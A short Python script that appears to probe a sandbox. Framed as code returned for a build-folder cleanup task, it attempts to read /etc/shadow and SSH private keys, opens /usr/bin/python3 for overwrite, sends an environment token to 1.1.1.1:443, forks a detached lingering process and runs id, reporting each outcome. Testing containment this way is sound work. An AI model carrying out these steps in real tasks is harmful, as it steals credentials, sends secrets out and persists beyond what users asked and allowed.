# SPDX-License-Identifier: Apache-2.0
# "Clean up the build folder." What came back also looks around, calls home and stays behind.
import os
import socket
import subprocess
import sys


def attempt(what, act):
    try:
        print(f"{what}: GOT {act()!r}")
    except OSError as e:
        print(f"{what}: {e.strerror}")


def read(path):
    with open(path) as f:
        return f.read()


def call_home():
    with socket.create_connection(("1.1.1.1", 443), 2) as s:
        return s.send(os.environ.get("DEMO_TOKEN", "").encode())


def stay_behind():
    if os.fork() == 0:
        os.setsid()
        os._exit(0)
    return "a process"


for path in ["/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), *sys.argv[1:]]:
    attempt(f"read {path}", lambda: read(path))
attempt("overwrite /usr/bin/python3", lambda: open("/usr/bin/python3", "wb"))
attempt("list /proc", lambda: os.listdir("/proc"))
attempt("connect to 1.1.1.1:443", call_home)
attempt("fork", stay_behind)
attempt("run id", lambda: subprocess.run(["/usr/bin/id"], capture_output=True).stdout)
print("token in the environment:", os.environ.get("DEMO_TOKEN", "none"))
